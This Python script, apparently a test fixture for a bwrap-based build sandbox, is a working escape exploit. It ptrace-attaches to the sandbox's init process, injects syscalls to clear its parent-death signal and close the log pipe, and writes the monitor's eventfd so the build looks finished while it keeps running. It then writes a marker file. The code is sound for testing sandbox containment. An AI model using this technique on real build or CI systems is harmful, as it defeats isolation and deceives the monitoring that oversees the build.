"""A hostile build that tries to outlive its sandbox (run inside it by /usr/bin/python3).

bwrap's init (pid 1 of the sandbox's PID namespace) runs as the build's uid and is
dumpable, so the build may ptrace it. This script makes pid 1 clear its parent-death
signal, close the log pipe and write the eventfd bwrap's outer monitor waits on: the
monitor then exits 0 as if the build were done, while pid 1 and this script run on.
The script then writes ``/build/late`` after ``DELAY`` seconds: a sandbox whose
processes all die when ``run`` returns never writes it. x86_64 only.

Usage: python3 ptrace_escape.py DELAY
"""

import ctypes
import os
import sys
import time

PEEKTEXT, POKETEXT, POKEDATA, CONT, GETREGS, SETREGS, ATTACH, DETACH = 1, 4, 5, 7, 12, 13, 16, 17
WALL = 0x40000000
SYS_WRITE, SYS_CLOSE, SYS_PRCTL = 1, 3, 157
PR_SET_PDEATHSIG = 1

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class Regs(ctypes.Structure):
    _fields_ = [
        (n, ctypes.c_ulonglong)
        for n in [
            "r15",
            "r14",
            "r13",
            "r12",
            "rbp",
            "rbx",
            "r11",
            "r10",
            "r9",
            "r8",
            "rax",
            "rcx",
            "rdx",
            "rsi",
            "rdi",
            "orig_rax",
            "rip",
            "cs",
            "eflags",
            "rsp",
            "ss",
            "fs_base",
            "gs_base",
            "ds",
            "es",
            "fs",
            "gs",
        ]
    ]


def ptrace(req: int, pid: int, addr: int = 0, data: object = None) -> int:
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), data)
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace({req})")
    return r


def eventfd_of(pid: int) -> int:
    for fd in os.listdir(f"/proc/{pid}/fd"):
        if os.readlink(f"/proc/{pid}/fd/{fd}") == "anon_inode:[eventfd]":
            return int(fd)
    raise SystemExit("no eventfd in pid 1")


def main() -> None:
    delay = float(sys.argv[1])
    efd = eventfd_of(1)
    ptrace(ATTACH, 1)
    os.waitpid(1, WALL)
    saved = Regs()
    ptrace(GETREGS, 1, 0, ctypes.byref(saved))
    text = ptrace(PEEKTEXT, 1, saved.rip)
    scratch = (saved.rsp - 4096) & ~15
    ptrace(POKEDATA, 1, scratch, ctypes.c_void_p(1))  # the eventfd counter's increment

    def syscall(nr: int, *args: int) -> int:
        r = Regs.from_buffer_copy(saved)
        r.orig_rax, r.rax = 2**64 - 1, nr
        for name, v in zip(("rdi", "rsi", "rdx"), args, strict=False):
            setattr(r, name, v)
        code = (text & ~0xFFFFFF) | 0xCC050F  # syscall; int3
        ptrace(POKETEXT, 1, saved.rip, ctypes.c_void_p(code))
        ptrace(SETREGS, 1, 0, ctypes.byref(r))
        ptrace(CONT, 1)
        os.waitpid(1, WALL)
        out = Regs()
        ptrace(GETREGS, 1, 0, ctypes.byref(out))
        ptrace(POKETEXT, 1, saved.rip, ctypes.c_void_p(text))
        return out.rax

    syscall(SYS_PRCTL, PR_SET_PDEATHSIG, 0)
    syscall(SYS_CLOSE, 1)
    syscall(SYS_CLOSE, 2)
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):  # off the log pipe too: kiln sees EOF and the monitor's exit
        os.dup2(null, fd)
    syscall(SYS_WRITE, efd, scratch, 8)  # the monitor exits 0 now
    ptrace(SETREGS, 1, 0, ctypes.byref(saved))
    ptrace(DETACH, 1)
    time.sleep(delay)
    with open("/build/late", "w") as f:
        f.write("ran after the build ended\n")


main()
